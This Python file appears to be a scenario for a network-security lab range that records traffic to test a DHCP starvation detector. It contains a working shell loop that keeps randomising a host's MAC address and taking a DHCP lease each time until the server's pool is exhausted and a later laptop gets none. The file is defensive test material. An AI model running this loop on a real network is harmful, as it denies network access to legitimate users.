"""An ordinary DHCP client, again and again with another MAC address, until nothing is left."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

SCRIPT = """
while :; do
  hex=$(od -An -N5 -tx1 /dev/urandom | tr ' ' ':')
  ip link set eth0 down && ip link set eth0 address 02$hex && ip link set eth0 up
  udhcpc -f -n -q -t 2 -T 1 -A 1 -i eth0 -s /bin/true
done
"""


def run(net: Range) -> None:
    attacker, server = net.inside("attacker", address=False), net.inside("dhcp")
    laptops = [net.inside(f"laptop{number}", address=False) for number in (1, 2)]
    attacker.sysctl(net__ipv6__conf__eth0__disable_ipv6="1")
    servers.leases(server, "10.20.0.200", "10.20.0.239", "10.20.0.1", "no-ping")
    net.everyday()
    laptops[0].run("udhcpc", "-f", "-n", "-q", "-i", "eth0", "-s", "/bin/true", check=False)
    with net.attack(
        "dhcp-starvation",
        by=attacker,
        attacker_known=False,
        victims=[server],
        frames="udp dst port 67",
        responses="udp src port 67",
    ):
        net.tool(attacker, "sh", "-c", SCRIPT, seconds=36)
    # Nothing is left for those who come now.
    words = "udhcpc -f -n -q -t 2 -T 1 -i eth0 -s /bin/true"
    laptops[1].run(*words.split(), check=False)
    net.quiet(2)


SCENARIO = Scenario(
    name="dhcp-starvation-held-macchange",
    about="A host changes its MAC address again and again and takes a lease each time, till none is left.",
    detectors=("dhcp-starvation",),
    tools={"udhcpc": "busybox"},
    run=run,
    snap_octets=400,
)
